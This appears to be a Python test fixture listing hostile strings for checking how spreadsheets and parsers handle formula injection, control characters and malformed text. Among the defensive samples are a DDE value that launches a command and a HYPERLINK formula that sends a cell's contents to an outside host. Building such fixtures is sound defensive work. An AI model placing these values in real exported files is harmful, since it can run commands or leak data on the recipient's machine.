"""Words that harm a spreadsheet, a parser or a reader who takes them for something else."""

from __future__ import annotations

HOSTILE = {
    "a link": '=HYPERLINK("http://example.org/?"&A1,"Click here")',
    "a command": "=cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at sign": "@SUM(1+1)",
    "a tab": "\t=1+1",
    "a carriage return": "\r=1+1",
    "a line feed": "\n=1+1",
    "wide characters": "＝1+1",
    "an apostrophe before a formula": "'=1+1",
    "two apostrophes before a formula": "''=1+1",
    "an apostrophe before words": "'tis said",
    "quotes": "He said \"no\", twice, and left; 'so' it is.",
    "line breaks": "first\nsecond\r\nthird\rfourth",
    "commas and semicolons": "a,b;c\td|e",
    "another separator": "delivered;=1+1\t=1+1",
    "right to left": "\u202eevil\u202c \u200fשלום\u200e مرحبا",
    "emoji": "🇨🇦 👩\u200d✈️ 🚧",
    "no character of XML": "a\x01b\x0bc\x1fd\ufffee",
    "what stands for a character": "_x0041_ and _x000D_",
    "markup": "<b>&amp;</b> ]]> {{ 7 }} ${7}",
    "an error value": "#N/A",
    "a number": "00123",
    "long": "=" + "long and never ending. " * 450,
}
"""Each by what it is; the last has 10,000 characters and more."""
